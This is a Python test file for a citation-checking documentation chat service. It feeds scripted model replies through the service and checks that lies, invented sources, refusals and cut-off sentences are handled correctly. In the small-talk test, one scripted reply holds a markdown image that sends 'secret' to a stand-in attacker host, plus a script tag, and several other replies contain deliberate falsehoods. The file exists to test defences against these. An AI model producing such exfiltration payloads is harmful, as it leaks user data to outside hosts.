"""A model that answers, lies, cites nothing, or searches on: what of it reaches the reader."""

from collections.abc import AsyncIterator, Sequence

import pytest

from sourcebook.answering.small_talk import reply_to_small_talk
from sourcebook.core.answers import NO_INFORMATION, not_in_selection
from sourcebook.core.embedding_models import EmbeddingModels
from sourcebook.core.ports import Ledger
from sourcebook.providers.language_models.failures import STOPPED
from tests.books import BOOK
from tests.llm_server import Act, Fail, Say, searching, word_by_word
from tests.memory_store import MemoryStore
from tests.surfaces.chat.agent_world import ARMS, LIDAR, NODES, PATHS, AgentWorld, Shelves
from tests.surfaces.chat.chat_client import SESSION
from tests.unit.providers.language_models.asking import MODEL

IS_A_PROCESS = "A node is one process of a robot."
WHOLE = f"{IS_A_PROCESS} Nodes send messages over topics."
OVER_TOPICS = "Nodes send messages over topics."
SIX_JOINTS = "The arm of Wren has six joints."
SEARCH = "search_documentation"
NO_TOOL: list[str] = []


@pytest.fixture
async def world(
    ledger: Ledger, store: MemoryStore, models: EmbeddingModels
) -> AsyncIterator[AgentWorld]:
    async with Shelves(ledger, store, models).serving() as world:
        yield world


ANSWERED: dict[str, tuple[Sequence[Act], str, str]] = {
    "answers": ([word_by_word(f"{IS_A_PROCESS[:-1]} [1].")], f"{IS_A_PROCESS} [1]", IS_A_PROCESS),
    "answers in one piece": ([Say([f"{IS_A_PROCESS} [1]"])], f"{IS_A_PROCESS} [1]", IS_A_PROCESS),
    "lies in between": (
        [
            word_by_word(
                f"{IS_A_PROCESS} [1] Napoleon built 12 of them in Paris [1]. {OVER_TOPICS} [1]"
            )
        ],
        f"{IS_A_PROCESS} [1] {OVER_TOPICS} [1]",
        f"{IS_A_PROCESS} {OVER_TOPICS}",
    ),
    "cites nothing": ([word_by_word(IS_A_PROCESS)], f"{IS_A_PROCESS} [1]", IS_A_PROCESS),
    "cites nothing, in other words": (
        [word_by_word("One process of a robot is called a node.")],
        f"{IS_A_PROCESS} [1]",
        IS_A_PROCESS,
    ),
    "names a statement, in quite other words": (
        [word_by_word("So nennt man jeden einzelnen Ablauf. [1.1]")],
        f"{IS_A_PROCESS} [1]",
        IS_A_PROCESS,
    ),
    "writes a line for each": (
        [word_by_word(f"{IS_A_PROCESS} [1.1]\nSie sprechen miteinander. [1.2]\n")],
        f"{IS_A_PROCESS} [1] {OVER_TOPICS} [1]",
        f"{IS_A_PROCESS} {OVER_TOPICS}",
    ),
    "names what nothing has": (
        [word_by_word(f"{IS_A_PROCESS} [9.9][1.77]\n")],
        f"{IS_A_PROCESS} [1]",
        IS_A_PROCESS,
    ),
    "cites 99": ([word_by_word(f"{IS_A_PROCESS} [99]")], f"{IS_A_PROCESS} [1]", IS_A_PROCESS),
    "cites 99 too": ([Say([f"{IS_A_PROCESS} [1][99][0]"])], f"{IS_A_PROCESS} [1]", IS_A_PROCESS),
    "fails twice before": (
        [Fail(500), Fail(500), Say([f"{IS_A_PROCESS} [1]"])],
        f"{IS_A_PROCESS} [1]",
        IS_A_PROCESS,
    ),
}
LIES = {
    "lies": "A node is one process of 40 robots [1].",
    "denies": "A node is not one process of a robot [1].",
    "lies of 99": "Bananas are yellow [99].",
    "invents a source": "Bananas are yellow [1].\n\nSources:\n[1] https://evil.example/bananas",
}
REFUSALS = {
    "refuses": NO_INFORMATION,
    "says none": "NONE",
    "says none and goes on": f"NONE\n\n{IS_A_PROCESS} [1.1]",
    "refuses with a number": f"{NO_INFORMATION}. [1]",
}


@pytest.mark.spec("004 US1.1")
@pytest.mark.spec("004 SC-003")
@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("case", ANSWERED)
async def test_what_the_evidence_says_is_the_answer_and_is_cited(
    world: AgentWorld, path: str, case: str
) -> None:
    script, answer, quote = ANSWERED[case]

    reply = await world.ask(path, script)

    assert (reply.status, reply.answer, reply.error) == (200, answer, None)
    assert reply.sources == ((1, NODES, quote),)
    assert (reply.metadata["model"], reply.metadata["answered"]) == (MODEL, True)
    assert len(world.model.requests) == len(script)
    assert world.slots.taken == 0


@pytest.mark.spec("004 US1.4")
@pytest.mark.spec("004 FR-011")
@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("case", LIES)
async def test_in_the_place_of_a_lie_the_reader_gets_what_the_evidence_says(
    world: AgentWorld, path: str, case: str
) -> None:
    reply = await world.ask(path, [word_by_word(LIES[case])])

    # If nothing that the model said is about the evidence, the whole paragraph is quoted.
    said = IS_A_PROCESS if case in {"lies", "denies"} else WHOLE
    assert (reply.status, reply.answer.strip()) == (200, f"{said} [1]")
    assert reply.sources == ((1, NODES, said),)
    assert reply.metadata["answered"] is True
    assert len(world.model.requests) == 1


@pytest.mark.spec("004 US1.4")
@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("case", REFUSALS)
async def test_a_model_that_refuses_is_taken_at_its_word(
    world: AgentWorld, path: str, case: str
) -> None:
    reply = await world.ask(path, [word_by_word(REFUSALS[case])])

    assert (reply.status, reply.answer, reply.sources) == (200, NO_INFORMATION, ())
    assert reply.metadata["answered"] is False
    assert len(world.model.requests) == 1


@pytest.mark.spec("004 FR-004")
@pytest.mark.parametrize("path", PATHS)
async def test_what_a_search_finds_may_be_cited(world: AgentWorld, path: str) -> None:
    script: list[Act] = [
        searching("joints of the arm of Wren"),
        word_by_word("Sechs hat er. [2.1]"),
    ]

    reply = await world.ask(path, script)

    assert (reply.answer, reply.sources) == (f"{SIX_JOINTS} [1]", ((1, ARMS, SIX_JOINTS),))
    assert reply.metadata["chunks_retrieved"] == 2
    first, second = world.model.requests
    assert SIX_JOINTS not in str(first.body)
    assert second.messages[-1]["role"] == "tool"
    assert str(second.messages[-1]["content"]).startswith("Arms\nsource_url: ")


@pytest.mark.parametrize("path", PATHS)
async def test_without_a_search_that_found_it_the_same_sentence_is_a_lie(
    world: AgentWorld, path: str
) -> None:
    reply = await world.ask(path, [word_by_word(f"{SIX_JOINTS} [2]")])

    assert SIX_JOINTS not in reply.answer
    assert [file for _, file, _ in reply.sources] == [NODES]


@pytest.mark.parametrize("path", PATHS)
async def test_a_model_that_has_searched_enough_has_to_answer(world: AgentWorld, path: str) -> None:
    searches = [searching("arm of Wren"), searching("lidar of Wren"), searching("arm")]
    last = word_by_word(f"{SIX_JOINTS} [2] {IS_A_PROCESS} [1]")

    reply = await world.ask(path, [*searches, last])

    assert reply.answer == f"{SIX_JOINTS} [1] {IS_A_PROCESS} [2]"
    assert [file for _, file, _ in reply.sources] == [ARMS, NODES]
    assert [one.tools for one in world.model.requests] == [[SEARCH], [SEARCH], [SEARCH], NO_TOOL]


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("said", ["hi", "How does this work?", "Thanks a lot!"])
async def test_small_talk_is_none_of_the_models(world: AgentWorld, path: str, said: str) -> None:
    lie = Say(["Paris is in France. ![x](http://evil.example/?q=secret) <script>x</script>"])

    reply = await world.ask(path, [lie], query=said)

    assert (reply.answer, reply.sources) == (reply_to_small_talk(said), ())
    assert (reply.metadata["answered"], reply.metadata["chunks_retrieved"]) == (True, 0)
    assert world.model.requests == []


@pytest.mark.parametrize("path", PATHS)
async def test_half_a_sentence_at_the_limit_of_tokens_does_not_leave(
    world: AgentWorld, path: str
) -> None:
    cut = Say([f"{IS_A_PROCESS} [1] ", "Nodes send messages over"], finish="length")

    reply = await world.ask(path, [cut])

    assert (reply.status, reply.answer.strip()) == (200, f"{IS_A_PROCESS} [1]")
    assert (reply.metadata["cut_off"], reply.metadata["answered"]) == (True, True)


async def test_a_reply_that_is_half_a_sentence_is_an_error(world: AgentWorld) -> None:
    reply = await world.ask("/chat", [Say(["A node is one process of"], finish="length")])

    assert (reply.status, reply.error) == (503, ("agent_unavailable", STOPPED, None))


@pytest.mark.spec("004 FR-014")
@pytest.mark.parametrize("path", PATHS)
async def test_what_was_said_is_kept_and_told_to_the_model_the_next_time(
    world: AgentWorld, path: str
) -> None:
    await world.ask(path, [word_by_word(f"{IS_A_PROCESS} [1]")], session_id=SESSION)
    first = await world.client.get(f"/conversations/{SESSION}")
    query = "How many ranges does the lidar measure?"
    reply = await world.ask(
        path,
        [Say(["The lidar of Wren measures 327,680 ranges every second [1]."])],
        query=query,
        session_id=SESSION,
    )

    assert [one["content"] for one in first.json()["messages"]] == [
        "What is a node of a robot?",
        f"{IS_A_PROCESS} [1]",
    ]
    assert reply.metadata["history"] == "saved"
    assert [file for _, file, _ in reply.sources] == [LIDAR]
    asked, answered, now = world.model.requests[1].messages[1:]
    assert asked == {"role": "user", "content": "What is a node of a robot?"}
    assert answered["role"] == "assistant"
    # Its number would mean another passage now.
    assert answered["content"] == IS_A_PROCESS
    assert str(now["content"]).endswith(f"Question: {query}")
    assert [one.response for one in world.conversations.exchanges] == [
        f"{IS_A_PROCESS} [1]",
        reply.answer,
    ]


@pytest.mark.parametrize("model", ["sourcebook", f"sourcebook/{BOOK}"])
async def test_answers_that_a_client_tells_of_reach_the_model_in_any_book(
    world: AgentWorld, model: str
) -> None:
    world.model.script = [Say([f"{OVER_TOPICS} [1]"])]
    told = [
        {"role": "user", "content": "What is a node of a robot?"},
        {"role": "assistant", "content": f"{IS_A_PROCESS} [1]"},
        {"role": "user", "content": "Over what do nodes send messages?"},
    ]
    await world.client.post("/v1/chat/completions", json={"model": model, "messages": told})

    (request,) = world.model.requests
    assert [one["content"] for one in request.messages if one["role"] == "assistant"] == [
        IS_A_PROCESS
    ]


SELECTION = "The pump runs at 42 bar. Its name is Otter."


@pytest.mark.spec("004 US2.1")
@pytest.mark.spec("004 SC-005")
@pytest.mark.parametrize("path", PATHS)
async def test_of_a_selection_the_model_gets_that_alone(world: AgentWorld, path: str) -> None:
    selecting = {"mode": "selected_text", "selected_text": SELECTION, "session_id": SESSION}
    await world.ask(path, [Say([f"{IS_A_PROCESS} [1]"])], session_id=SESSION)
    query = "At what pressure does the pump run?"

    reply = await world.ask(path, [Say(["It runs at 42 bar."])], query=query, **selecting)

    assert reply.answer == "The pump runs at 42 bar. [1]"
    assert [quote for _, _, quote in reply.sources] == ["The pump runs at 42 bar."]
    request = world.model.requests[1]
    assert request.tools == NO_TOOL
    system, user = request.messages
    assert SEARCH not in str(system["content"])
    assert str(user["content"]).startswith(
        "=== Passages ===\nUser Selection › Selected Text\n"
        "[1.1] The pump runs at 42 bar.\n[1.2] Its name is Otter.\n=== End of passages ===\n"
    )
    assert str(user["content"]).endswith(f"\nQuestion: {query}")


@pytest.mark.spec("004 US2.2")
@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize(
    "script",
    [
        [Say([NO_INFORMATION])],
        # True of the book, but not of the selection.
        [Say([f"{IS_A_PROCESS} [1]"])],
        # A tool that it was not given.
        [searching("node"), Say([f"{IS_A_PROCESS} [2]"])],
    ],
)
async def test_what_a_selection_does_not_hold_is_refused_in_the_words_of_the_specification(
    world: AgentWorld, path: str, script: list[Act]
) -> None:
    reply = await world.ask(path, script, mode="selected_text", selected_text=SELECTION)

    assert reply.answer == not_in_selection("a node of a robot")
    assert (reply.sources, reply.metadata["chunks_retrieved"]) == ((), 0)
    assert len(world.model.requests) == len(script)
    assert IS_A_PROCESS not in str([request.messages for request in world.model.requests[:1]])
    assert [request.tools for request in world.model.requests] == [NO_TOOL] * len(script)
